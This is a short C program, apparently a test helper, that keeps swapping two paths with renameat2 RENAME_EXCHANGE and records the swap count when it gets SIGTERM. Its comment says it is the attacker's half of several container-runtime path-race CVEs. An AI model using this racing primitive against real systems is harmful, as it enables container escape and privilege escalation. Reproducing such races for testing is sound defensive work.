/* swap A B COUNT: exchange two names for ever (renameat2(2), RENAME_EXCHANGE); on SIGTERM write how often into COUNT.
 *
 * Whoever resolves a path in which A occurs sees A's and B's object in turn, and never neither: the attacker's half of
 * CVE-2021-30465, CVE-2024-45310, CVE-2025-31133, CVE-2025-52565 and CVE-2025-52881. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>

static volatile sig_atomic_t ended;
static void end(int number) { (void)number; ended = 1; }

int main(int argc, char **argv)
{
    unsigned long count = 0;
    if (argc != 4)
        return 2;
    signal(SIGTERM, end);
    while (!ended)
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
            count++;
    FILE *file = fopen(argv[3], "w");
    if (file == NULL)
        return 1;
    fprintf(file, "%lu\n", count);
    return fclose(file) != 0;
}
